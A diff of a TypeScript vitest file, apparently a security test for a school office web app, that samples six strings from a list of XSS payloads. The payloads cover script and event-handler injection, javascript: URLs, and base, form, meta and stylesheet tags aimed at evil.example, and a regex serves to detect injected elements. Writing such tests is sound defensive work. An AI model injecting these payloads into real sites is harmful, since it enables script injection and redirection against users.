@@ -1,34 +1,38 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { officeRoutes } from '@/school-api/office/routes';
+import { some } from '../support/cases';
 import { fillEverything } from './support/fill-everything';
 import { type Browser, openTestOffice, type TestOffice } from './support/office';
 import { type PageElement, readPage } from './support/read-page';
 
 /** What somebody may write into a form of the site, or get into a name. */
-const PAYLOADS = [
-  '<script>zzx()</script>',
-  '</script><script>zzx()</script>',
-  '"><script>zzx()</script>',
-  "'><img src=x onerror=zzx()>",
-  '"><img src=x onerror=zzx()>',
-  '<img src=x onerror=zzx()>',
-  '<svg/onload=zzx()//',
-  '" onfocus="zzx()" autofocus="',
-  "' onfocus='zzx()' autofocus='",
-  '" style="background:url(//evil.example)',
-  '</textarea><script>zzx()</script>',
-  '</title><script>zzx()</script>',
-  '</select><zzx onclick=zzx()>',
-  '--><zzx onclick=zzx()><!--',
-  '<iframe srcdoc="<script>zzx()</script>">',
-  '<a href="javascript:zzx()">x</a>',
-  'javascript:zzx()',
-  '&lt;script&gt;zzx()&lt;/script&gt;',
-  '<base href=//evil.example>',
-  '<form action=//evil.example><input name=code>',
-  '<meta http-equiv=refresh content=0;url=//evil.example>',
-  '<link rel=stylesheet href=//evil.example>',
-];
+const PAYLOADS = some(
+  [
+    '<script>zzx()</script>',
+    '</script><script>zzx()</script>',
+    '"><script>zzx()</script>',
+    "'><img src=x onerror=zzx()>",
+    '"><img src=x onerror=zzx()>',
+    '<img src=x onerror=zzx()>',
+    '<svg/onload=zzx()//',
+    '" onfocus="zzx()" autofocus="',
+    "' onfocus='zzx()' autofocus='",
+    '" style="background:url(//evil.example)',
+    '</textarea><script>zzx()</script>',
+    '</title><script>zzx()</script>',
+    '</select><zzx onclick=zzx()>',
+    '--><zzx onclick=zzx()><!--',
+    '<iframe srcdoc="<script>zzx()</script>">',
+    '<a href="javascript:zzx()">x</a>',
+    'javascript:zzx()',
+    '&lt;script&gt;zzx()&lt;/script&gt;',
+    '<base href=//evil.example>',
+    '<form action=//evil.example><input name=code>',
+    '<meta http-equiv=refresh content=0;url=//evil.example>',
+    '<link rel=stylesheet href=//evil.example>',
+  ],
+  6,
+);
 
 const FOREIGN = /^(zzx|iframe|object|embed|base|frame|style|img|link:.*evil.*)$/;
 const ADDRESS =
